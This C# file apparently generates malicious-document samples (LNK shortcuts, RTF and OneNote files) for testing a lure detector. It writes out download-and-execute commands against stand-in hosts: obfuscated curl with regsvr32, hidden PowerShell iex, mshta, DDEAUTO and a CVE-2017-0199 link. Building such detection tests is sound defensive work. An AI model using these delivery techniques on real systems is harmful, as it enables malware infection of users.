using System.Text;

namespace Lurewatch.Samples.Documents;

/// <summary>Shortcuts, OneNote sections and RTF documents that start or fetch something.</summary>
internal static class ShortcutDocuments
{
    private const string Cmd = @"C:\Windows\System32\cmd.exe", PowerShell = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

    public static IEnumerable<DocumentSample> All() =>
    [
        Carets(), Mshta(), Curl(), AppendedScript(), PowerShellPlain(), Padded(), WebDav(), Template(), PackagedScript(), UrlMoniker(), Equation(), Dde(),
        OneNoteHta(), OneNoteBatch(), OneNoteScriptOfServers(),
    ];

    private static DocumentSample Carets()
    {
        const string url = "http://192.0.2.10/loader.txt";
        return new("Scan_2022.lnk", "2022, Qakbot in disk images: cmd /c with carets starts the download, under a folder's icon.",
            new LnkWriter { Target = Cmd, Arguments = $"/q /c echo 'x' && ^c^u^r^l.exe -o %temp%\\a.txt {url} & r^egsv^r32 %temp%\\a.txt", Icon = @"%SystemRoot%\System32\shell32.dll", IconIndex = 3, ShowCommand = 7 }.Write(), url);
    }

    private static DocumentSample Mshta()
    {
        const string url = "https://hta.example/i/page.hta";
        return new("Invoice.pdf.lnk", "2021–2023, Gamaredon and many others: mshta with an address, behind blanks.",
            new LnkWriter { Target = @"C:\Windows\System32\mshta.exe", Arguments = new string(' ', 120) + url + " /f", Icon = @"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe" }.Write(), url);
    }

    private static DocumentSample Curl()
    {
        const string url = "https://files.example/7z/s.dll";
        return new("Agreement.lnk", "2023, IcedID and Bumblebee: curl fetches, rundll32 starts.",
            new LnkWriter { Items = [LnkWriter.FileItem("Windows", true)], RelativePath = @"..\..\..\Windows\System32\cmd.exe", Arguments = $"/c curl -s -o C:\\ProgramData\\s.dll {url} && rundll32 C:\\ProgramData\\s.dll,Start" }
                .Path(0xA0000001, @"%windir%\System32\cmd.exe").Write(), url);
    }

    private static DocumentSample AppendedScript()
    {
        const string url = "http://vbs.example/w/";
        var script = string.Concat(new[] { "Dim u", $"u = \"{url}\"", "MsgBox u" }.Select(line => $"{line} 'qLkxPz\r\n"));
        return new("form_2022.doc.lnk", "April 2022, Emotet: findstr picks the lines of a script out of the shortcut itself.",
            new LnkWriter { Target = Cmd, Arguments = "/v:on /c findstr \"qLkxPz.*\" \"form_2022.doc.lnk\" > \"%tmp%\\ab.vbs\" & \"%tmp%\\ab.vbs\"", Icon = "shell32.dll", IconIndex = 1, Appended = Encoding.ASCII.GetBytes("\r\n" + script) }.Write(), url);
    }

    private static DocumentSample PowerShellPlain()
    {
        const string url = "https://ps.example/stage1";
        return new("Report.docx.lnk", "2022, after macros: PowerShell without a window fetches the next stage.",
            new LnkWriter { Target = PowerShell, Arguments = $"-w hidden -nop -c \"iex (New-Object Net.WebClient).DownloadString('{url}')\"", Icon = @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" }.Write(), url);
    }

    private static DocumentSample Padded()
    {
        const string url = "https://pad.example/a.msi";
        return new("Statement.lnk", "2023, arguments beyond the 260 characters that the properties page shows.",
            new LnkWriter { Target = @"C:\Windows\System32\msiexec.exe", Arguments = new string('\n', 280) + $"/i {url} /qn", Unicode = false }.Write(), url);
    }

    private static DocumentSample WebDav()
    {
        return new("Shared.lnk", "2023, wscript runs a script from a WebDAV share.",
            new LnkWriter { Target = @"C:\Windows\System32\wscript.exe", Arguments = @"\\dav.example@80\share\setup.js https://dav.example/share/setup.js" }.Write(), "https://dav.example/share/setup.js");
    }

    private static DocumentSample Template()
    {
        const string url = "http://template.example/office/main.dotm";
        return new("contract.rtf", "2021, several espionage groups: the template of the document lies elsewhere, spelled in Unicode escapes.",
            RtfWriter.Document($"{{\\*\\template {string.Concat(url.Take(8).Select(c => $"\\u{(int)c}?"))}{url[8..]}}}Please wait."), url);
    }

    private static DocumentSample PackagedScript()
    {
        const string url = "https://pkg.example/get.php";
        return new("order.rtf", "2019–2023, FormBook and Loki: the Packager object puts a script into the temporary folder.",
            RtfWriter.Document(RtfWriter.Object("Package", RtfWriter.Embedded("Package", RtfWriter.Package("order.js", Encoding.ASCII.GetBytes($"var h = new ActiveXObject('MSXML2.XMLHTTP'); h.open('GET', '{url}', false);\r\n"))))), url);
    }

    private static DocumentSample UrlMoniker()
    {
        const string url = "http://moniker.example/doc.hta";
        return new("quotation.doc", "2017 until today, CVE-2017-0199: an OLE link to an HTML application, updated on opening.",
            RtfWriter.Document(RtfWriter.Object("Word.Document.8", RtfWriter.Embedded("OLE2Link", RtfWriter.UrlMoniker(url)), "\\objautlink\\objupdate")), url);
    }

    private static DocumentSample Equation()
    {
        const string url = "http://equation.example/v/a.exe";
        var hex = RtfWriter.Hex(RtfWriter.Embedded("eQuAtIoN.3", [.. new byte[28], 3, 1, 1, 3, 10, 10, 1, 8, 0x5a, 0x5a, .. Encoding.ASCII.GetBytes($"mshta {url} &AAAAAAAAC"), 0x12, 0x0c, 0x43, 0]));
        return new("swift.doc", "2018–2023, Agent Tesla and others: an Equation Editor object in pieces between groups, control words and blanks.",
            Encoding.ASCII.GetBytes($"{{\\rt{{\\object\\objupdate{{\\*\\objdata {hex[..50]}{{\\*\\pnaiueo abc}}{hex[50..90]}\\par \r\n{hex[90..]}}}}}}}"), url);
    }

    private static DocumentSample Dde()
    {
        const string url = "https://dde.example/p.ps1";
        return new("minutes.rtf", "2017 until 2019: a DDE field starts PowerShell.",
            RtfWriter.Document($@"{{\field{{\*\fldinst DDEAUTO ""C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord.exe\\\\..\\\\..\\\\..\\\\..\\\\Windows\\\\System32\\\\cmd.exe"" ""/c powershell -nop iex (irm '{url}')"" }}{{\fldrslt }}}}"), url);
    }

    private static readonly byte[] s_button = [0x89, .. "PNG\r\n\u001a\n"u8, .. new byte[60]];

    private static DocumentSample OneNoteHta()
    {
        const string url = "https://hta.example/q/31.dat";
        return new("Details.one", "January and February 2023, Qakbot: an HTML application behind the button that says to double click.",
            new OneNoteWriter().Picture(s_button, "open.png").File("attachment.hta", Encoding.ASCII.GetBytes($"<html><script language=\"vbscript\">u = \"{url}\"</script></html>"), @"Z:\build\attachment.hta")
                .Text("Double click to view this document").Write(), url);
    }

    private static DocumentSample OneNoteBatch()
    {
        const string url = "https://bat.example/p/x.png";
        return new("Shipping.one", "February 2023, AsyncRAT and Quasar: a batch file behind the button.",
            new OneNoteWriter().File("Untitled.bat", Encoding.ASCII.GetBytes($"@echo off\r\ncurl {url} --output %temp%\\x.dll\r\n")).Picture(s_button).Text("This page is protected").Write(), url);
    }

    private static DocumentSample OneNoteScriptOfServers()
    {
        const string url = "http://vbs.example/emo/";
        return new("message.one", "March 2023, Emotet: VBScript behind the button; here in the form that servers store.",
            new OneNoteWriter().Picture(s_button).File("click.wsf", Encoding.ASCII.GetBytes($"<job id=\"a\"><script language=\"VBScript\">\r\nx = \"{url}\"\r\n</script></job>")).WritePackage(), url);
    }
}
